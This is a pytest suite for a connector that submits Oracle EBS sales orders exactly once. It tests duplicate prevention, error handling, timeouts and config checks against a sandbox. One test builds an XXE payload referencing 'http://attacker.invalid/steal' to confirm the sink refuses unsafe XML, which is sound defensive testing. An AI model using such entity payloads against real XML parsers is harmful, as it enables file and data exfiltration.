"""Creating EBS sales orders through PROCESS_ORDER exactly once, keyed by ORIG_SYS_DOCUMENT_REF."""

from __future__ import annotations

from typing import Any

import pytest

from canonical_model.errors import ConfigError
from connectors.errors import AmbiguousOutcome, FatalConnectorError, RemoteRejected
from connectors.oracle_ebs.errors import EbsApiError
from connectors.oracle_ebs.sandbox import SOAP_ENV, EbsSandbox
from connectors.oracle_ebs.sink import EbsOrderSink
from connectors.oracle_ebs.spec import OracleEbsConfig
from connectors.sink import Sink, submit_exactly_once
from tests.connectors.conftest import SleepRecorder

KEY = "SO-240501-0001"
ORDER: dict[str, Any] = {
    "order_no": KEY,
    "dealer_code": "D1004",
    "order_date": "2024-05-01",
    "requested_delivery_date": "2024-05-08",
    "lines": [
        {"line_no": 1, "sku": "FG-1001", "qty": "12", "unit": "EA", "net_price": "35.50"},
        {"line_no": 2, "sku": "FG-1002", "qty": "3", "unit": "CS"},
    ],
}


def make_sink(sandbox: EbsSandbox, config: dict[str, Any], sleeps: SleepRecorder) -> EbsOrderSink:
    return EbsOrderSink(OracleEbsConfig.model_validate(config), transport=sandbox.transport(), sleep=sleeps)


def process_order_calls(sandbox: EbsSandbox) -> list[str]:
    return [r.content.decode() for r in sandbox.requests if b"process_order/" in r.content]


def test_the_ebs_sink_is_a_sink(ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder) -> None:
    assert isinstance(make_sink(ebs, ebs_config, sleeps), Sink)


def test_submit_creates_the_order_with_our_reference_and_returns_the_order_number(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    number = make_sink(ebs, ebs_config, sleeps).submit(ORDER, idempotency_key=KEY)
    [order] = ebs.orders_by_reference(KEY)
    assert number == str(order["ORDER_NUMBER"])
    assert (order["CUSTOMER_NUMBER"], order["ORDER_TYPE_ID"], order["ORG_ID"], order["ORDER_SOURCE_ID"]) == (
        "D1004",
        "1437",
        "204",
        "1001",
    )
    assert order["ORDERED_DATE"] == "2024-05-01T00:00:00+08:00"
    first, second = order["lines"]
    assert (first["ORDERED_ITEM"], first["ORDERED_QUANTITY"], first["ORDER_QUANTITY_UOM"]) == (
        "FG-1001",
        "12",
        "Ea",
    )
    assert (first["UNIT_SELLING_PRICE"], first["CALCULATE_PRICE_FLAG"]) == ("35.50", "N")
    assert "UNIT_SELLING_PRICE" not in second and second["ORDER_QUANTITY_UOM"] == "CS"
    [call] = process_order_calls(ebs)
    assert "<wsse:Username>DMSHUB_ISG</wsse:Username>" in call
    assert "<ns0:Responsibility>ORDER_MGMT_SUPER_USER</ns0:Responsibility>" in call


def test_lookup_finds_the_order_by_orig_sys_document_ref(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    sink = make_sink(ebs, ebs_config, sleeps)
    assert sink.lookup(KEY) is None
    assert sink.lookup(KEY) is None
    number = sink.submit(ORDER, idempotency_key=KEY)
    assert sink.lookup(KEY) == number


def test_an_error_status_is_refused_with_the_ebs_messages_and_not_retried(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.return_status_next(
        "E",
        [
            "Validation failed for the field - Ship To.",
            "Order has been placed on credit check failure hold.",
        ],
    )
    with pytest.raises(EbsApiError) as caught:
        submit_exactly_once(make_sink(ebs, ebs_config, sleeps), ORDER, KEY, sleep=sleeps)
    error = caught.value
    assert isinstance(error, RemoteRejected) and not error.retriable
    assert (error.return_status, error.operation) == ("E", "OE_ORDER_PUB.PROCESS_ORDER")
    assert error.remote_messages == (
        "Validation failed for the field - Ship To.",
        "Order has been placed on credit check failure hold.",
    )
    assert "x_return_status=E, x_msg_count=2" in str(error)
    assert len(process_order_calls(ebs)) == 1 and ebs.orders == []


def test_the_sandbox_validation_answers_e_for_an_unknown_item(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    bad = {**ORDER, "lines": [{"line_no": 1, "sku": "FG-1009", "qty": "1"}]}  # FG-1009 is Inactive
    with pytest.raises(
        EbsApiError, match=r"Line 1: Validation failed for the field - Ordered Item \(FG-1009\)"
    ):
        make_sink(ebs, ebs_config, sleeps).submit(bad, idempotency_key=KEY)


def test_a_soap_fault_is_refused_with_the_fault_string(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.fault_next(
        "Error occured while service was processing. ORA-04068: existing state of packages has been discarded"
    )
    with pytest.raises(RemoteRejected) as caught:
        make_sink(ebs, ebs_config, sleeps).submit(ORDER, idempotency_key=KEY)
    assert "ORA-04068" in caught.value.remote_messages[0]
    assert ebs.orders == []


def test_a_timeout_after_ebs_committed_yields_one_order_not_two(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.time_out_after_commit()
    sink = make_sink(ebs, ebs_config, sleeps)
    with pytest.raises(AmbiguousOutcome):
        sink.submit(ORDER, idempotency_key=KEY)
    number = submit_exactly_once(sink, ORDER, KEY, lookup_first=True, sleep=sleeps)
    [order] = ebs.orders_by_reference(KEY)
    assert number == str(order["ORDER_NUMBER"]) and len(process_order_calls(ebs)) == 1


def test_submit_exactly_once_survives_a_timeout_after_commit_on_its_own(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.time_out_after_commit()
    number = submit_exactly_once(make_sink(ebs, ebs_config, sleeps), ORDER, KEY, sleep=sleeps)
    assert [str(o["ORDER_NUMBER"]) for o in ebs.orders_by_reference(KEY)] == [number]


def test_a_gateway_error_page_on_the_write_is_looked_up_then_resubmitted_once(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.fail_next(502)
    number = submit_exactly_once(make_sink(ebs, ebs_config, sleeps), ORDER, KEY, sleep=sleeps)
    assert [str(o["ORDER_NUMBER"]) for o in ebs.orders_by_reference(KEY)] == [number]
    kinds = ["find" if b"find_order/" in r.content else "process" for r in ebs.requests]
    assert kinds == ["process", "find", "process"]  # answered 502, looked up (absent), sent again


def test_a_response_carrying_an_external_entity_is_refused_and_nothing_is_fetched(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    ebs.reply_next(
        b'<?xml version="1.0"?><!DOCTYPE env:Envelope [<!ENTITY xxe SYSTEM "http://attacker.invalid/steal">]>'
        + f'<env:Envelope xmlns:env="{SOAP_ENV}"><env:Body><X>&xxe;</X></env:Body></env:Envelope>'.encode()
    )
    with pytest.raises(FatalConnectorError, match="refused unsafe XML"):
        make_sink(ebs, ebs_config, sleeps).submit(ORDER, idempotency_key=KEY)
    assert {r.url.host for r in ebs.requests} == {"ebs-sandbox.dmshub.invalid"}


def test_creating_orders_needs_the_operating_unit_and_order_type(ebs_config: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match="org_id and order_type_id are required"):
        EbsOrderSink.from_config({k: v for k, v in ebs_config.items() if k != "order_type_id"})


def test_a_reference_longer_than_orig_sys_document_ref_is_refused(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    with pytest.raises(ConfigError, match="1 to 50 characters"):
        make_sink(ebs, ebs_config, sleeps).submit(ORDER, idempotency_key="X" * 51)


def test_submit_order_keys_on_the_order_number_and_never_sends_it_twice(
    ebs: EbsSandbox, ebs_config: dict[str, Any], sleeps: SleepRecorder
) -> None:
    sink = make_sink(ebs, ebs_config, sleeps)
    first = sink.submit_order(ORDER)
    assert sink.submit_order(ORDER) == first
    assert len(process_order_calls(ebs)) == 1 and len(ebs.orders_by_reference(KEY)) == 1
